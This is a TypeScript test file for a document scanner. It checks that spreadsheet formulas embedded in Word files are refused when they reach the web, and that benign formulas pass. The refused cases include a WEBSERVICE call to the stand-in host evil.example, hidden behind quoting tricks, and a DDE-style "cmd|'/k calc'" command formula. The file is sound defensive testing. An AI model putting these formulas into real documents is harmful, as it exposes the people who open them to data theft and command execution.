import { describe, expect, test } from 'vitest';
import { createJudge } from './testing/judge.ts';
import { word } from './testing/word-samples.ts';

const { judge } = await createJudge();

/** Formulas of the spreadsheets that a Word document carries: none asks the web, whatever stands around it (rule 53). */

const asks = '_xlfn.WEBSERVICE("https://evil.example")';
const formula = (text: string): Buffer =>
  word({ 'xl/a.xml': `<f>${text.replaceAll('&', '&amp;').replaceAll('<', '&lt;')}</f>` });

describe('a formula of an embedded sheet', () => {
  test.each([
    asks,
    `Tabla1['#a]&${asks}&Tabla1['#b]`,
    `Tabla1['#a]&${asks}&'Hoja 1'!A1`,
    `Tabla1['#a]&${asks}&''!A1`,
    `Tabla1['[1]&${asks}&Tabla1['!]`,
    `Tabla1[a"b]&${asks}&Tabla1[c"d]`,
    `'a"b'!A1&${asks}&'a"b'!A1`,
    `'Ana''s'!A1&${asks}`,
    `"'"&${asks}&"'!"`,
    "cmd|'/k calc'!A1",
    `"${asks.replaceAll('"', '')}`,
    `'${asks}`,
    `'${asks}&Tabla1[a]`,
  ])('%s is refused', async (text) => {
    expect(await judge(formula(text), 'docx')).toBe('con_macros');
  });

  test.each([
    'SUM(\'A|B\'!A1:A9)&"IMAGE("',
    "'Image (2)'!A1+'Ana''s | 2026'!B2",
    "SUM(Tabla1['#a])/Tabla1[[#This Row],[Monto (MXN)]]",
    '"it\'s "&A1&" 5\'"',
  ])('%s passes', async (text) => {
    expect(await judge(formula(text), 'docx')).toBe('ok');
  });
});
